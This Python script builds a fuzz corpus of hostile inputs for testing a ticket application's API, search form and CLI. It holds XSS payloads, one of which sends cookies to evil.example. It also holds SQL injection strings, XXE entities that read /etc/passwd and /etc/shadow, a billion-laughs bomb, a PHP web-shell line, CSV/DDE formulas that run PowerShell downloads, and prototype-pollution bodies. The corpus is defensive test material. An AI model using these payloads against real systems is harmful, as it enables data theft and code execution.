"""Write tests/data/hostile/corpus.jsonl: the hostile inputs of issue 14 that tests/test_hostile.py runs against the
API, the search form and the CLI. Deterministic: run it again and the file is byte-identical.

    .venv/bin/python tests/data/hostile/make_corpus.py

One case per line: {"id", "kind", "subject", "description"} plus, for what is generated at test time rather than
stored, "repeat" (the description is repeated that many times; "repeat_subject" the same for the subject), "nest"
(JSON arrays nested that deep, "nest_at" "body" or "description") or "body" (a raw JSON request body, sent as is).
Lone surrogates are written JSON-escaped (\\ud800), as json.dumps does by default.
"""
from __future__ import annotations

import json
from pathlib import Path

OUT = Path(__file__).with_name("corpus.jsonl")

XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><script>alert(document.cookie)</script>", "'\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{7*7}}", "${7*7}", "{% for x in range(9**9) %}{% endfor %}", "<%= 7*7 %>", "#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<style>*{display:none}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">", "<base href=\"http://evil.example/\">",
    "<form action=\"http://evil.example/\"><button>go</button></form>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<mark>valve</mark>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">", "<x onclick=alert(1)>valve</x>", "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='", "<svg><script>alert&#40;1&#41;</script></svg>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<div style=\"background:url(javascript:alert(1))\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
]

FTS5 = [
    "\"", "\"\"", "\"valve", "valve\"", "valve*", "*", "* *", "*valve", "NEAR(valve leak)", "NEAR(valve leak, 2)",
    "NEAR(", "NEAR()", "^valve", "^", "^^^", "subject:valve", "{subject description}:valve", "{subject", "- valve",
    "valve AND", "AND OR NOT", "NOT valve", "valve OR", "OR", "(valve", "valve)", "((((valve", "))))",
    "(valve AND (leak OR", "valve + leak", "\"valve\" \"leak", "rowid:1", "tickets_fts:valve", ":", "::", "valve:",
    "-", "---", "a\"b\"c", "'; DROP TABLE tickets; --", "1' OR '1'='1", "valve NEAR/3 leak", "\"valve\"*",
    "col1 : col2 : col3", "NEAR(\"valve\" \"leak\" 0)", "AND", "NOT", "valve NOT", "() () ()",
]

ELASTIC = [
    "subject:valve", "valve~2", "val?e", "va*ve", "/va.*e/", "/[/", "[1 TO 5]", "{a TO z}", "valve^2", "valve^-1",
    "valve && leak", "valve || leak", "!valve", "+valve -leak", "_exists_:subject", "subject:(valve OR leak)",
    "\"valve leak\"~5", "\\", "a\\b", ">=10", "<5", "date:>2020-01-01", "(", ")", "{", "}", "[", "]", "~", "*:*",
    "valve AND NOT leak", "/.*/", "a:b:c", "#", "?", "\\\\\\\\", "valve\\:leak", "{\"query\": {\"match_all\": {}}}",
    "_id:1 OR _id:2", "subject.keyword:*", "&&", "||", "!", "valve~", "valve~0.5", "/(.*a){30}/",
]

UNICODE = [
    "\u202evlav kael", "val\u200bve le\u200bak", "\u200c\u200d\u200c", "\ufeffvalve leak", "e\u0301\u0301\u0301\u0301",
    "v\u0334\u0335\u0336a\u0337\u0338l\u0339\u033a\u033bv\u033c\u033d\u033ee" * 3,
    "\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 family", "\U0001F1E9\U0001F1EA \U0001F1FA\U0001F1F8",
    "\U0001F44D\U0001F3FD", "v\u0430lve le\u0430k", "\u2174alve", "\uff56\uff41\uff4c\uff56\uff45\u3000\uff4c\uff45\uff41\uff4b",
    "\U0001D42F\U0001D41A\U0001D425\U0001D42F\U0001D41E", "\u2066valve\u2069 \u2067leak\u2069", "valve\ufe0f\ufe0e",
    "\U000E0041\U000E0042\U000E007F", "\ufffe\uffff", "\U0010FFFF", "\u3164\u3164", "\u0130STANBUL valve",
    "stra\u00dfe", "\ufb01lter \ufb02ow", "A\u030a vs \u00c5", "\u0301", "\u0635\u0645\u0627\u0645 \u062a\u0633\u0631\u0628",
    "\u05e9\u05e1\u05ea\u05d5\u05dd \u05d3\u05dc\u05d9\u05e4\u05d4", "\u9600\u95e8\u6cc4\u6f0f", "\u0935\u093e\u0932\u094d\u0935",
    "val\u00adve", "valve\u2028leak\u2029seal", "valve\u00a0leak", "\u180evalve", "val\u034fve",
    "\u202a\u202b\u202c\u202d\u202e", "\u2060\u2061\u2062\u2063\u2064", "\U0001F4A9" * 20, "\u0000\u200b\u202e",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357",
    "\u1100\u1161\u11a8 \uac01", "\U00020000\U0002A6D6", "\u00e9" * 50, "\u2126 \u212b \u2160",
]

SURROGATE = [
    "\ud800", "\udfff", "\udc00valve", "valve\ud83d", "\ude00\ud83d", "\ud800\ud800", "valve leak\udbff",
    "\udc80\udc81\udc82", "valve \ud800 leak", "\ud83d\ude00\ud800", "\udfff\ud800", "seal\udcffgasket",
]

CONTROL = [
    "\x00", "valve\x00leak", "\x00" * 10, "\x1b[31mred\x1b[0m valve", "\x08\x08\x08valve", "\r", "\r\n\r\n",
    "\x85valve", "\x0b\x0c", "\x9b31m", "\tvalve\tleak\t", "\x7f\x7f", "valve\rleak\rseal",
    "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u0007bell",
] + [f"valve{chr(c)}leak" for c in range(1, 32) if chr(c) not in "\t\n\r"]

LONG_TOKENS = [
    "a" * 1000, "a" * 5000, "valve" * 2000, "x" * 20000, "\u00e9" * 3000, "\U0001F600" * 1000, "9" * 5000,
    "-" * 5000, "<" * 5000, "&amp;" * 2000, "a-" * 4000, "valve_" * 3000, "\u0301" * 4000, "%00" * 3000,
    "http://evil.example/" + "a" * 10000,
]

NUMBERS = ["1" * 5000, "-" + "9" * 5000, "1e999", "NaN", "Infinity", "-Infinity", "0x" + "f" * 1000, "1" * 300,
           "0.000000000000000000000000000000000000000001", "1e-400"]

XML = [
    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;"
    "&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;"
    "</lolz>",
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]>",
    "<!DOCTYPE a [<!ENTITY a \"" + "x" * 5000 + "\">]><a>" + "&a;" * 200 + "</a>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/shadow\" parse=\"text\"/>",
    "&lol3;&lol3;&lol3;", "<![CDATA[]]>]]>", "<?php system($_GET['c']); ?>", "<!ENTITY>",
    "<OrgQuestion ORGQ_ID=\"Q1\"><OrgQSubject>valve</OrgQSubject></OrgQuestion>",
]

CSV_INJECTION = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\uff1d1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\";=1+1;\"", "=\"=1+1\"", "@valve", "+valve", "-valve leak",
    "=WEBSERVICE(\"http://evil.example/\")", "'=1+1", ",=1+1,", "=cmd|'/C powershell IEX(wget evil.example)'!A0",
]

SPECIAL_BODIES = [
    '{"subject": ' + "1" * 5000 + ', "description": "valve"}',
    '{"subject": "valve", "description": "leak", "k": ' + "9" * 5000 + "}",
    '{"subject": "valve", "description": "leak", "k": 1e999}',
    '{"subject": "valve", "description": NaN}',
    '{"subject": Infinity}',
    '{"subject": "valve", "subject": "\\ud800"}',
    '\ufeff{"subject": "valve", "description": "leak"}',
    '{"subject": "valve\\u0000leak", "description": "seal"}',
    '{"subject": "valve", "description": "leak"} trailing',
    "[]", "null", '"valve"', "1", "true", "{}",
    '{"subject": {"$ne": 1}, "description": "leak"}',
    '{"__proto__": {"admin": true}, "subject": "valve"}',
    '{"subject": "valve", "description": "leak", "k": -1}',
    '{"subject": "valve", "description": "leak", "k": 1.5}',
    '{"subject": ["valve"], "description": "leak"}',
    '{"subject": "\\ud800", "description": "\\udfff"}',
    '{"\\ud800": "key", "subject": "valve"}',
    '{"subject": "valve", "description": "leak", "k": 10, "extra": ' + "[" * 50 + "]" * 50 + "}",
    '{"subject": "valve", ' * 3,
    '{"subject": "valve", "description": "' + "\\u0041" * 2000 + '"}',
    "{'subject': 'valve'}",
    '{"subject": "valve", "description": "leak", "k": 0x10}',
    '{"subject": "valve", "description": "leak",}',
    '{"subject": "val\\ve"}',
    '{"subject": "valve", "description": "' + "\\\\" * 3000 + '"}',
]

#: (size, description text, repeated): huge inputs, generated at test time.
HUGE = [("valve leak ", 200_000), ("x", 2_000_000), ("<b>", 500_000), ("\u00e9", 1_000_000), ("\U0001F600", 300_000),
        ("valve. ", 150_000), ("\x00", 100_000), ("\"*(", 100_000)]

#: (depth, where): deeply nested JSON, generated at test time.
NESTED = [(100, "description"), (1000, "description"), (30_000, "description"), (100_000, "description"),
          (65, "body"), (1000, "body"), (30_000, "body"), (100_000, "body")]

NEUTRAL_SUBJECT = "Valve leak"
NEUTRAL_DESCRIPTION = "The actuator valve leaks at full load after the seal change."


def placements(payload: str, both: bool = True) -> list[tuple[str, str]]:
    """(subject, description) with the payload as the subject, as the description, and inside ordinary text; with
    `both` False (long tokens, to keep the file small) only in the description, alone and inside text."""
    inside = f"The seal {payload} leaks at pressure after restart."
    if not both:
        return [(NEUTRAL_SUBJECT, payload), (NEUTRAL_SUBJECT, inside)]
    return [(payload, NEUTRAL_DESCRIPTION), (NEUTRAL_SUBJECT, payload), (f"valve {payload} leak", inside)]


def cases() -> list[dict]:
    """Every case of the corpus, in a fixed order."""
    out: list[dict] = []

    def add(kind: str, subject: str, description: str, **extra) -> None:
        out.append({"id": f"H{len(out) + 1:04d}", "kind": kind, "subject": subject, "description": description, **extra})

    for kind, payloads in (("xss", XSS), ("fts5", FTS5), ("elasticsearch", ELASTIC), ("unicode", UNICODE),
                           ("surrogate", SURROGATE), ("control", CONTROL), ("long_token", LONG_TOKENS),
                           ("number", NUMBERS), ("xml_bomb", XML), ("csv_injection", CSV_INJECTION)):
        for payload in payloads:
            for subject, description in placements(payload, both=kind != "long_token"):
                add(kind, subject, description)
    for text, times in HUGE:
        add("huge", NEUTRAL_SUBJECT, text, repeat=times)
    add("huge", "valve ", NEUTRAL_DESCRIPTION, repeat_subject=100_000)
    add("huge", "v" * 10, "leak " * 10, repeat_subject=10_000, repeat=100_000)
    for depth, where in NESTED:
        add("nested_json", NEUTRAL_SUBJECT, NEUTRAL_DESCRIPTION, nest=depth, nest_at=where)
    for body in SPECIAL_BODIES:
        add("json_body", NEUTRAL_SUBJECT, body[:1000], body=body)
    return out


def main() -> None:
    lines = [json.dumps(case, ensure_ascii=True, sort_keys=False) for case in cases()]
    OUT.write_text("\n".join(lines) + "\n", encoding="ascii")
    print(f"wrote {len(lines)} cases to {OUT}")


if __name__ == "__main__":
    main()
